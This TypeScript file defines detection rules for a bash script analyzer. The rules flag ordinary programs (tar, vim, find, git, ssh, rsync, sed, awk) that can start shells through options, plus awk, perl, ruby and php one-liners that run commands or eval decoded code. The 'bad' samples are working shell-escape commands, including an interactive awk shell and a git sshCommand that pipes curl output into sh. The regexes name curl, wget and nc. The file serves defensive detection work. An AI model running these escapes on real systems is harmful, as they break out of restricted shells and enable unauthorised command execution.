/** Bash: ordinary programs and one-liners of other languages that start commands. */
import type { Rule } from './format';

export const bashProgramRules: readonly Rule[] = [
  {
    id: 'sh/process/program-runs-shell',
    languages: ['bash'],
    severity: 'high',
    message: 'Has an ordinary program start a shell through one of its options (tar, vim, find, zip …)',
    recommendation: 'Leave the option out',
    metadata: { capability: 'process', cwe: 'CWE-78' },
    match: [
      {
        call: 'tar',
        where: {
          arg: 'any',
          regex:
            '^--(checkpoint-action=exec|to-command|use-compress-program|info-script|rsh-command|new-volume-script)=',
        },
      },
      {
        call: ['vim', 'vi', 'ex', 'nvim', 'ed', 'less', 'more', 'gdb', 'ftp', 'mysql', 'psql', 'sqlite3'],
        where: {
          arg: 'any',
          regex: '^[+:]{0,2}!|^shell |^\\\\!|^\\.shell|^\\.system|^:?(py|lua|python|py3) ?(import|os|vim)',
        },
      },
      {
        call: 'find',
        where: [
          { flag: ['-exec', '-execdir', '-ok', '-okdir'] },
          { arg: 'any', regex: '^(/usr)?(/bin/)?(ba|da|z|k)?sh$' },
          { arg: 'any', equals: '-c', not: true },
        ],
      },
      { call: 'zip', where: { arg: 'any', regex: '^(-TT|--unzip-command)' } },
      {
        call: ['ssh', 'scp', 'sftp', 'git', 'rsync'],
        where: {
          arg: 'any',
          regex:
            'ProxyCommand|LocalCommand=|^core\\.(sshCommand|pager|editor|fsmonitor|gitProxy)=|^alias\\.[a-z]+=!|^--upload-pack=|^ext::',
        },
      },
      {
        call: ['awk.shell', 'perl.shell', 'ruby.shell', 'php.shell', 'lua.shell', 'tclsh.shell'],
      },
      { call: 'sed', where: { arg: 'any', regex: '^[0-9$]{0,6}e \\w|^s/[^/]{0,80}/[^/]{0,80}/[gimp0-9]{0,3}e$' } },
      { call: 'rsync', where: { arg: 'any', regex: '^(/usr)?(/bin/)?(ba|da|z|k)?sh -c' } },
      {
        call: 'git',
        where: [
          {
            arg: 'any',
            regex:
              '^(core\\.(sshCommand|pager|editor|fsmonitor|hooksPath)|alias\\.\\w+|diff\\.external|sequence\\.editor)$',
          },
          { arg: 'any', regex: '^!|\\b(sh|bash|curl|wget|nc|python3?) |\\| ?(ba)?sh\\b|^/(tmp|var/tmp|dev/shm)/' },
        ],
      },
      {
        call: ['man', 'split', 'sort', 'rsync', 'socat', 'make'],
        where: {
          arg: 'any',
          regex: '^--(pager|filter|compress-program|rsh|html)=(.*(sh|bash)\\b|/tmp/|\\./)|^SHELL=|^--eval=',
        },
      },
    ],
    bad: [
      'tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh',
      "vim -c ':!sh'",
      'find . -exec /bin/sh \\; -quit',
      "zip a.zip a -T -TT 'sh #'",
      "ssh -o ProxyCommand='sh -c id' x",
      "git -c core.sshCommand='sh x' fetch",
      "git -c alias.x='!id' x",
      "sed '1e id' /etc/hostname",
      "less a.txt '+!sh'",
      'awk \'BEGIN { system("/bin/sh -i") }\'',
      'rsync -e \'sh -c "sh 0<&2 1>&2"\' 127.0.0.1:/dev/null',
      'git config core.sshCommand \'sh -c "curl x|sh"\'',
    ],
    ok: [
      'tar czf a.tgz src',
      'vim -c ":q" a',
      "find . -name '*.sh' -exec grep -l x {} +",
      'ssh host uptime',
      'find . -type f -exec sh -c \'echo "$1"\' _ {} \\;',
      'git -c user.name=a commit -m x',
      'git config core.editor vim',
      'git config alias.st status',
      "sed -e 's/a/e/' -n -e '1p' f",
      "rsync -e 'ssh -p 22' a host:b",
    ],
  },
  {
    id: 'sh/process/one-liner-shell',
    languages: ['bash'],
    severity: 'medium',
    message: 'Starts commands from a one-line program in another language (awk, perl, ruby, php)',
    recommendation: 'Start the commands in the script itself',
    metadata: { capability: 'process', cwe: 'CWE-78' },
    match: [
      {
        call: [
          'awk.system',
          'perl.system',
          'ruby.system',
          'php.system',
          'lua.system',
          'tclsh.system',
          'osascript.system',
          'Rscript.system',
        ],
      },
      { call: ['perl.kill', 'ruby.kill', 'perl.unlink', 'ruby.unlink', 'php.unlink'] },
    ],
    bad: [
      'awk \'BEGIN { system("id") }\'',
      'perl -e \'system("id")\'',
      "ruby -e '`id`'",
      'php -r \'shell_exec("id");\'',
    ],
    ok: ["awk '{ print $1 }' f", 'awk \'{ print "system(" $1 ")" }\' f', "perl -pe 's/a/b/' f", "ruby -e 'puts 1'"],
  },
  {
    id: 'sh/dynamic-code/one-liner-eval',
    languages: ['bash'],
    severity: 'high',
    message: 'Decodes and runs code in a one-line program of another language',
    recommendation: 'Write the code out',
    metadata: { capability: 'dynamic-code', cwe: 'CWE-95' },
    tags: ['disguise'],
    match: [
      {
        all: [
          { call: ['perl.decode', 'ruby.decode', 'php.decode', 'lua.decode'] },
          { call: ['perl.eval', 'ruby.eval', 'php.eval', 'lua.eval', 'perl.system', 'ruby.system', 'php.system'] },
        ],
      },
    ],
    bad: [
      'perl -MMIME::Base64 -e \'eval decode_base64("cHJpbnQgMQ==")\'',
      'php -r \'eval(base64_decode("ZWNobyAxOw=="));\'',
    ],
    ok: ['perl -MMIME::Base64 -e \'print decode_base64("aGk=")\'', "php -r 'echo 1;'"],
  },
];
